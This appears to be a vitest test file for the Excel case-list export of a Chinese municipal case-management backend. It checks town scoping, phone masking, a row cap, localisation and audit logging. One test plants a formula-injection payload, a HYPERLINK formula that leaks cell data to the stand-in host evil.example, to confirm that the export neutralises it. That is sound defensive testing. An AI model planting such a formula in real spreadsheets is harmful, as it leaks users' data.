import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Client, createTestApp } from '../../test/app.js';
import { at, baseGridsOf, type CaseWorld, caseWorld, OTHER_TOWN_COMMUNITY, reportOk } from './cases.test-helpers.js';

const OTHER_TOWN = OTHER_TOWN_COMMUNITY.slice(0, 9);
/** Small, so that the county's whole list is over it and a town's is not. */
const MAX_ROWS = 6;

let w: CaseWorld;
let otherOperator: Client;

async function workbookOf(response: LightMyRequestResponse): Promise<ExcelJS.Workbook> {
  expect(response.statusCode, response.body).toBe(200);
  expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  return workbook;
}

/** Data rows as arrays of cell values (index 0 = column A). */
function rowsOf(sheet: ExcelJS.Worksheet): ExcelJS.CellValue[][] {
  const rows: ExcelJS.CellValue[][] = [];
  sheet.eachRow((row, number) => {
    if (number > 1) rows.push((row.values as ExcelJS.CellValue[]).slice(1));
  });
  return rows;
}

const headersOf = (sheet: ExcelJS.Worksheet) => (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1);

beforeAll(async () => {
  w = await caseWorld(await createTestApp({ config: { exportMaxRows: MAX_ROWS } }));
  // An operator of another town (璜土镇's command center), made through the API like any account.
  const created = await w.admin.post('/api/users', {
    username: 'operator-other-town',
    displayName: '其他镇值班员',
    password: 'export-test-2026',
    roles: ['operator'],
    scopeRegionCode: OTHER_TOWN,
    unitId: w.unitId(`${OTHER_TOWN}-CC`),
  });
  expect(created.statusCode, created.body).toBe(201);
  otherOperator = await w.t.login('operator-other-town', 'export-test-2026');
  const [grid] = await baseGridsOf(w, OTHER_TOWN_COMMUNITY);
  if (!grid) throw new Error('no grid in the other town');
  for (const [matterCode, east] of [
    ['CG-0501', 0],
    ['CG-0502', 20],
    ['QT-0205', -20],
  ] as const) {
    await reportOk(w.cityOperator, {
      matterCode,
      description: `其他镇来电 ${matterCode}`,
      point: at(grid.point, east, 0),
      reporter: { name: '赵先生', phone: '13912345678' },
    });
  }
});
afterAll(() => w.t.close());

describe('Excel export of the case lists', () => {
  it('holds exactly the rows of the list, with Chinese headers, dates as dates and a masked phone', async () => {
    const list = (await w.operator.get('/api/cases?limit=500')).json();
    expect(list.total).toBeGreaterThan(0);
    const workbook = await workbookOf(await w.operator.get('/api/cases/export.xlsx'));
    const sheet = workbook.getWorksheet('案件') as ExcelJS.Worksheet;
    expect(headersOf(sheet)).toEqual([
      '案件编号',
      '事项',
      '事项编码',
      '状态',
      '层级',
      '时限状态',
      '当前环节',
      '本环节时限',
      '处置时限',
      '网格',
      '区划代码',
      '地址',
      '问题描述',
      '来源',
      '上报人',
      '联系电话',
      '附议数',
      '指挥中心',
      '承办单位',
      '上报时间',
      '结案时间',
    ]);
    const rows = rowsOf(sheet);
    expect(rows).toHaveLength(list.total);
    expect(rows.map((r) => r[0])).toEqual(list.items.map((c: { code: string }) => c.code));
    // The town operator sees only its town's cases.
    expect(rows.every((r) => String(r[10]).startsWith('320281001'))).toBe(true);

    // Frozen, filterable header; dates are Excel dates (in China time), counts are numbers.
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    const first = list.items[0];
    const reported = rows[0]?.[19];
    expect(reported).toBeInstanceOf(Date);
    expect((reported as Date).getTime() - new Date(first.createdAt).getTime()).toBe(8 * 3_600_000);
    expect(sheet.getColumn(20).numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(typeof rows[0]?.[16]).toBe('number');
    expect(sheet.getColumn(13).width).toBe(40);
  });

  it('exports another town’s cases only to that town’s operator, reporter phones masked', async () => {
    const list = (await otherOperator.get('/api/cases?limit=500')).json();
    expect(list.total).toBe(3);
    const rows = rowsOf(
      (await workbookOf(await otherOperator.get('/api/cases/export.xlsx'))).worksheets[0] as ExcelJS.Worksheet,
    );
    expect(rows).toHaveLength(3);
    expect(rows.every((r) => String(r[10]).startsWith(OTHER_TOWN))).toBe(true);
    expect(rows.map((r) => r[15])).toEqual(['139****5678', '139****5678', '139****5678']);
    expect(rows.map((r) => r[14])).toEqual(['赵先生', '赵先生', '赵先生']);
    // No full phone number anywhere in the file.
    expect(JSON.stringify(rows)).not.toMatch(/1\d{10}/);

    const mine = rowsOf(
      (await workbookOf(await w.operator.get('/api/cases/export.xlsx'))).worksheets[0] as ExcelJS.Worksheet,
    );
    expect(mine.some((r) => String(r[10]).startsWith(OTHER_TOWN))).toBe(false);
  });

  it('applies the list’s filters and answers in English when asked', async () => {
    const query = 'matterCode=CG-0502&state=reported';
    const list = (await w.cityOperator.get(`/api/cases?${query}`)).json();
    // A signed-in user's own language setting decides (the desk's language switch).
    const setLocale = (locale: string) =>
      w.cityOperator.request({ method: 'PUT', url: '/api/auth/preferences', payload: { locale } });
    expect((await setLocale('en-US')).statusCode).toBe(200);
    const response = await w.cityOperator.get(`/api/cases/export.xlsx?${query}`);
    await setLocale('zh-CN');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cases-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const sheet = (await workbookOf(response)).getWorksheet('Cases') as ExcelJS.Worksheet;
    expect(headersOf(sheet).slice(0, 4)).toEqual(['Case', 'Matter', 'Matter code', 'State']);
    const rows = rowsOf(sheet);
    expect(rows).toHaveLength(list.total);
    expect(rows.every((r) => r[2] === 'CG-0502' && r[3] === 'Reported')).toBe(true);
  });

  it('refuses a list longer than the cap, saying how many matched and how to narrow it', async () => {
    const total = (await w.admin.get('/api/cases')).json().total;
    expect(total).toBeGreaterThan(MAX_ROWS);
    const response = await w.admin.get('/api/cases/export.xlsx');
    expect(response.statusCode).toBe(400);
    const { error } = response.json();
    expect(error.code).toBe('export-too-large');
    expect(error.message).toContain(`共 ${total} 条`);
    expect(error.message).toContain(`上限 ${MAX_ROWS} 条`);
    expect(error.message).toContain('筛选条件');
    // Narrowed to a town, it fits.
    expect((await w.admin.get(`/api/cases/export.xlsx?regionCode=${OTHER_TOWN}`)).statusCode).toBe(200);
  });

  it('exports the supervision list on two sheets, counts as on the page', async () => {
    const supervision = (await w.operator.get('/api/cases/supervision')).json();
    const workbook = await workbookOf(await w.operator.get('/api/cases/supervision/export.xlsx'));
    const overdue = workbook.getWorksheet('超期（红牌）') as ExcelJS.Worksheet;
    const warning = workbook.getWorksheet('预警（黄牌）') as ExcelJS.Worksheet;
    expect(rowsOf(overdue)).toHaveLength(supervision.counts.overdue);
    expect(rowsOf(warning)).toHaveLength(supervision.counts.warning);
    expect(supervision.counts.overdue).toBeGreaterThan(0);
    expect(rowsOf(overdue).map((r) => r[0])).toEqual(supervision.overdue.map((c: { code: string }) => c.code));
  });

  it('audits every export with its filter and row count, and is not for residents', async () => {
    const audit = (await w.admin.get('/api/audit?action=case.export&limit=50')).json();
    expect(audit.total).toBeGreaterThanOrEqual(5);
    expect(audit.items.map((e: { objectType: string }) => e.objectType)).toContain('supervision-list');
    const filtered = audit.items.find(
      (e: { details: { query: { matterCode?: string } } }) => e.details.query.matterCode === 'CG-0502',
    );
    expect(filtered.details).toMatchObject({ query: { matterCode: 'CG-0502', state: ['reported'] } });
    expect(filtered.actorLabel).toBe('city-operator');
    expect((await w.resident.get('/api/cases/export.xlsx')).statusCode).toBe(403);
    expect((await w.resident.get('/api/cases/supervision/export.xlsx')).statusCode).toBe(403);
    // The refused export (too large) wrote no audit row; the narrowed one did.
    const byAdmin = audit.items.filter((e: { actorLabel: string }) => e.actorLabel === 'admin');
    expect(byAdmin.map((e: { details: unknown }) => e.details)).toEqual([
      { query: { regionCode: OTHER_TOWN }, rows: 3 },
    ]);
  });

  it('neutralises text that Excel would take for a formula', async () => {
    const [grid] = await baseGridsOf(w, OTHER_TOWN_COMMUNITY);
    if (!grid) throw new Error('no grid in the other town');
    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")';
    const { case: reported } = await reportOk(w.cityOperator, {
      matterCode: 'CG-0303',
      description: formula,
      point: at(grid.point, 40, 0),
      reporter: { name: '钱女士', phone: '13912345679' },
    });
    const sheet = (await workbookOf(await otherOperator.get('/api/cases/export.xlsx'))).worksheets[0];
    const row = rowsOf(sheet as ExcelJS.Worksheet).find((r) => r[0] === reported.code);
    // Read back as plain text with a leading apostrophe: Excel shows it and never evaluates it.
    expect(row?.[12]).toBe(`'${formula}`);
    expect(JSON.stringify(row)).not.toContain('"formula"');
  });
});
